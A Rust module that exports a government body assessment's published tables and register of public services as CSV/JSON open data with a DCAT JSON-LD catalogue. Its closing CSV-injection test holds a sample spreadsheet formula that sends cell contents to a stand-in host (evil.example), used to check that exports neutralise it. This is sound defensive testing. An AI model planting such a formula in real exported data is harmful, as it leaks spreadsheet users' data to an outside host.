//! The published tables as open data: each table of a published version, as
//! CSV or JSON (the web layer adds XLSX), the Register of public services
//! (its canonical CSV, JSON, XLSX), and a DCAT catalogue (JSON-LD) of them
//! all with stable addresses.

use crate::Published;
use bagalau_core::pack::Methodology;
use bagalau_core::score::{Level, Node};
use bagalau_services::register::{COLUMNS, Register};
use serde_json::{Value, json};

/// A cell of an open-data table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl Cell {
    fn opt_number(v: Option<f64>) -> Cell {
        v.map_or(Cell::Empty, Cell::Number)
    }

    fn json(&self) -> Value {
        match self {
            Cell::Text(t) => json!(t),
            Cell::Number(n) => json!(n),
            Cell::Empty => Value::Null,
        }
    }

    fn csv(&self) -> String {
        match self {
            Cell::Text(t) => t.clone(),
            Cell::Number(n) => n.to_string(),
            Cell::Empty => String::new(),
        }
    }
}

/// One table: its name, columns and rows.
#[derive(Debug, Clone)]
pub struct Table {
    pub name: &'static str,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// The tables every published version offers.
pub const TABLES: [(&str, &str); 3] = [
    (
        "rankings",
        "Ranks, totals, block scores and bands of every body",
    ),
    (
        "scores",
        "Points and maximum of every block, direction and criterion of every body",
    ),
    (
        "conclusions",
        "The final conclusions, per body and direction, with their authorized body",
    ),
];

/// The formats every table comes in, with their media types.
pub const FORMATS: [(&str, &str); 4] = [
    ("csv", "text/csv"),
    ("json", "application/json"),
    (
        "xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    ("parquet", "application/vnd.apache.parquet"),
];

/// The formats the register of public services comes in, with their media types.
pub const REGISTER_FORMATS: [(&str, &str); 3] = [FORMATS[0], FORMATS[1], FORMATS[2]];

/// The stored register of public services, as the catalogue describes it.
#[derive(Debug, Clone, PartialEq)]
pub struct RegisterDataset {
    /// SHA-256 of its canonical CSV.
    pub sha256: String,
    /// When it was imported (RFC 3339).
    pub imported_at: String,
    /// The demo's register, not the official one.
    pub demonstration: bool,
}

/// The address of the register of public services in a format. It follows
/// the register as it is replaced: the register is versioned inside, by the
/// effective dates of its rows.
pub fn register_path(format: &str) -> String {
    format!("/open-data/services/register.{format}")
}

/// The register of public services as a table: the canonical columns, every
/// version of every service; the deadline and the cost as numbers.
pub fn register_table(register: &Register) -> Table {
    let numeric = |column: &str| matches!(column, "deadline" | "cost_tenge");
    let rows = register
        .rows()
        .into_iter()
        .map(|row| {
            row.into_iter()
                .zip(COLUMNS)
                .map(|(cell, column)| match cell.parse::<f64>() {
                    _ if cell.is_empty() => Cell::Empty,
                    Ok(n) if numeric(column) => Cell::Number(n),
                    _ => Cell::Text(cell),
                })
                .collect()
        })
        .collect();
    Table {
        name: "register",
        columns: COLUMNS.map(String::from).to_vec(),
        rows,
    }
}

/// Builds a table of a published version; `None` for an unknown name.
pub fn table(name: &str, p: &Published, m: Option<&Methodology>) -> Option<Table> {
    let s = &p.snapshot;
    match name {
        "rankings" => {
            let blocks: Vec<String> = m
                .map(|m| m.blocks.iter().map(|b| b.id.clone()).collect())
                .unwrap_or_default();
            let mut columns: Vec<String> = [
                "year", "version", "kind", "rank", "body_id", "name_kk", "name_ru", "name_en",
                "total",
            ]
            .map(String::from)
            .to_vec();
            columns.extend(blocks.iter().cloned());
            columns.extend(["band", "demonstration"].map(String::from));
            let mut bodies: Vec<_> = s.bodies.iter().collect();
            bodies.sort_by_key(|b| (b.kind.as_str(), b.rank.is_none(), b.rank, b.body.clone()));
            let rows = bodies
                .into_iter()
                .map(|b| {
                    let mut row = vec![
                        Cell::Number(f64::from(p.year)),
                        Cell::Number(f64::from(p.version)),
                        Cell::Text(b.kind.as_str().into()),
                        Cell::opt_number(b.rank.map(f64::from)),
                        Cell::Text(b.body.clone()),
                        Cell::Text(b.name.kk.clone()),
                        Cell::Text(b.name.ru.clone()),
                        Cell::Text(b.name.en.clone()),
                        Cell::opt_number(b.total),
                    ];
                    for block in &blocks {
                        let points = b
                            .result
                            .tree
                            .children
                            .iter()
                            .find(|n| n.level == Level::Block && n.id == *block)
                            .and_then(|n| n.points);
                        row.push(Cell::opt_number(points));
                    }
                    row.push(b.band.clone().map_or(Cell::Empty, Cell::Text));
                    row.push(Cell::Text(s.demonstration.to_string()));
                    row
                })
                .collect();
            Some(Table {
                name: "rankings",
                columns,
                rows,
            })
        }
        "scores" => {
            let columns = [
                "year",
                "version",
                "body_id",
                "level",
                "element_id",
                "parent_id",
                "points",
                "max",
                "counted",
            ]
            .map(String::from)
            .to_vec();
            let mut rows = Vec::new();
            fn walk(n: &Node, parent: &str, body: &str, p: &Published, rows: &mut Vec<Vec<Cell>>) {
                let level = match n.level {
                    Level::Total => "total",
                    Level::Block => "block",
                    Level::Direction => "direction",
                    Level::Criterion => "criterion",
                };
                rows.push(vec![
                    Cell::Number(f64::from(p.year)),
                    Cell::Number(f64::from(p.version)),
                    Cell::Text(body.into()),
                    Cell::Text(level.into()),
                    Cell::Text(n.id.clone()),
                    Cell::Text(parent.into()),
                    Cell::opt_number(n.points),
                    Cell::Number(n.max),
                    Cell::Text(n.points.is_some().to_string()),
                ]);
                for c in &n.children {
                    walk(c, &n.id, body, p, rows);
                }
            }
            for b in &s.bodies {
                walk(&b.result.tree, "", &b.body, p, &mut rows);
            }
            Some(Table {
                name: "scores",
                columns,
                rows,
            })
        }
        "conclusions" => Some(Table {
            name: "conclusions",
            columns: [
                "year",
                "version",
                "body_id",
                "direction_id",
                "authority_id",
                "text",
            ]
            .map(String::from)
            .to_vec(),
            rows: s
                .conclusions
                .iter()
                .map(|c| {
                    vec![
                        Cell::Number(f64::from(p.year)),
                        Cell::Number(f64::from(p.version)),
                        Cell::Text(c.body.clone()),
                        Cell::Text(c.direction.clone()),
                        Cell::Text(c.authority.clone()),
                        Cell::Text(c.text.clone()),
                    ]
                })
                .collect(),
        }),
        _ => None,
    }
}

impl Table {
    /// RFC 4180 CSV with a header row, UTF-8.
    pub fn csv(&self) -> Vec<u8> {
        let mut w = bagalau_csv::Writer::from_writer(Vec::new());
        w.write_record(&self.columns).expect("writing to memory");
        for row in &self.rows {
            w.write_record(row.iter().map(Cell::csv))
                .expect("writing to memory");
        }
        w.into_inner().expect("writing to memory")
    }

    /// An array of objects, one per row, keyed by column.
    pub fn json(&self) -> Vec<u8> {
        let rows: Vec<Value> = self
            .rows
            .iter()
            .map(|row| {
                Value::Object(
                    self.columns
                        .iter()
                        .cloned()
                        .zip(row.iter().map(Cell::json))
                        .collect(),
                )
            })
            .collect();
        serde_json::to_vec_pretty(&rows).expect("JSON of plain values")
    }
}

/// The stable address of a table of a version (`latest` follows corrections).
pub fn table_path(year: i32, version: Option<i32>, table: &str, format: &str) -> String {
    let v = version.map_or_else(|| "latest".to_string(), |v| format!("v{v}"));
    format!("/open-data/{year}/{v}/{table}.{format}")
}

/// The DCAT catalogue (JSON-LD): one dataset per published version, each
/// table in every format as a distribution, and the register of public
/// services when one is stored; `base` is the site's origin.
pub fn catalogue(
    base: &str,
    versions: &[Published],
    register: Option<&RegisterDataset>,
    ratings: &[crate::ratings::RatingsDataset],
) -> Value {
    let mut datasets: Vec<Value> = versions
        .iter()
        .map(|p| {
            let distributions: Vec<Value> = TABLES
                .iter()
                .flat_map(|(table, description)| {
                    FORMATS.iter().map(move |(format, media)| {
                        json!({
                            "@type": "dcat:Distribution",
                            "dct:title": format!("{table}.{format}"),
                            "dct:description": description,
                            "dcat:downloadURL": { "@id": format!("{base}{}", table_path(p.year, Some(p.version), table, format)) },
                            "dcat:mediaType": media,
                        })
                    })
                })
                .collect();
            json!({
                "@type": "dcat:Dataset",
                "@id": format!("{base}/open-data/{}/v{}", p.year, p.version),
                "dct:identifier": format!("sha256:{}", p.sha256),
                "dct:title": [
                    { "@language": "kk", "@value": format!("Мемлекеттік органдар қызметінің тиімділігін бағалау нәтижелері, {}", p.year) },
                    { "@language": "ru", "@value": format!("Результаты оценки эффективности деятельности государственных органов, {}", p.year) },
                    { "@language": "en", "@value": format!("Results of the assessment of the effectiveness of state bodies, {}", p.year) },
                ],
                "dct:temporal": { "@type": "dct:PeriodOfTime", "dcat:startDate": format!("{}-01-01", p.year), "dcat:endDate": format!("{}-12-31", p.year) },
                "dct:issued": p.published_at,
                "dcat:version": p.version.to_string(),
                "adms:versionNotes": p.reason,
                "dct:conformsTo": p.snapshot.methodology,
                "bagalau:demonstration": p.snapshot.demonstration,
                "dcat:distribution": distributions,
            })
        })
        .collect();
    if let Some(r) = register {
        datasets.push(register_dataset(base, r));
    }
    datasets.extend(
        ratings
            .iter()
            .map(|d| crate::ratings::ratings_dataset(base, d)),
    );
    json!({
        "@context": {
            "dcat": "http://www.w3.org/ns/dcat#",
            "dct": "http://purl.org/dc/terms/",
            "adms": "http://www.w3.org/ns/adms#",
            "bagalau": format!("{base}/open-data/terms#"),
        },
        "@type": "dcat:Catalog",
        "@id": format!("{base}/open-data/catalog.jsonld"),
        "dct:title": "Bagalau open data",
        "dcat:dataset": datasets,
    })
}

fn register_dataset(base: &str, r: &RegisterDataset) -> Value {
    let description = "Every public service and its standard (deadline, channels, documents, cost, form of the result, automation), each version with the dates it is in force";
    let distributions: Vec<Value> = REGISTER_FORMATS
        .iter()
        .map(|(format, media)| {
            json!({
                "@type": "dcat:Distribution",
                "dct:title": format!("register.{format}"),
                "dct:description": description,
                "dcat:downloadURL": { "@id": format!("{base}{}", register_path(format)) },
                "dcat:mediaType": media,
            })
        })
        .collect();
    json!({
        "@type": "dcat:Dataset",
        "@id": format!("{base}/open-data/services/register"),
        "dct:identifier": format!("sha256:{}", r.sha256),
        "dct:title": [
            { "@language": "kk", "@value": "Мемлекеттік көрсетілетін қызметтер тізілімі" },
            { "@language": "ru", "@value": "Реестр государственных услуг" },
            { "@language": "en", "@value": "Register of public services" },
        ],
        "dct:description": description,
        "dct:modified": r.imported_at,
        "bagalau:demonstration": r.demonstration,
        "dcat:distribution": distributions,
    })
}

#[cfg(test)]
mod csv_injection_tests {
    use super::*;

    #[test]
    fn a_conclusion_that_is_a_formula_is_published_as_text() {
        let table = Table {
            name: "conclusions",
            columns: vec!["body_id".into(), "change".into(), "text".into()],
            rows: vec![vec![
                Cell::Text("minfin".into()),
                Cell::Number(-2.5),
                Cell::Text(r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#.into()),
            ]],
        };
        let csv = String::from_utf8(table.csv()).unwrap();
        assert_eq!(
            csv,
            "body_id,change,text\nminfin,-2.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\n"
        );
        // JSON keeps the text as it was written.
        let json: Value = serde_json::from_slice(&table.json()).unwrap();
        assert!(json[0]["text"].as_str().unwrap().starts_with("=HYPERLINK"));
    }
}
